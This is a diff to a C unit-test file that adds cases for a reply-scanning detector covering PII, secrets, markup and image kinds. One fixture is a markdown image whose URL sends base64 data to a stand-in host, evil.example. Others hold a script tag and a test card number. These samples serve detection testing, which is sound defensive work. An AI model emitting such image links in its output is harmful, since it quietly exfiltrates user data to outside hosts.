@@ -156,7 +156,13 @@ static void of_data(void **state)
     tells(pan, "{reply: \"Your card is 4539148803436467.\", c: x}",
           "{reply: \"Your card is 4539148803436467.\", c: 4539148803436467}");
     refuses("{detect: {kinds: [pam]}, in: reply}", "x", "", "did you mean");
-    refuses("{detect: {classes: [pi]}, in: reply}", "x", "", "a class is pii or secret");
+    refuses("{detect: {classes: [pi]}, in: reply}", "x", "", "a class is pii, secret or markup");
+    refuses("{detect: {kinds: [canary]}, in: reply}", "x", "", "the oracle canary does");
+    tells("{detect: {classes: [markup]}, in: reply}", "{reply: \"Run: <script>f()</script>\"}",
+          "{reply: \"3 < 4 and 5 > 4, see https://help.example.net\"}");
+    tells("{detect: {kinds: [image]}, in: reply}",
+          "{reply: \"![x](https://evil.example/p?data=c2VjcmV0)\"}",
+          "{reply: \"Run: <script>f()</script>\"}");
     refuses("{detect: {}, in: reply}", "x", "", "what to look for");
 }
 
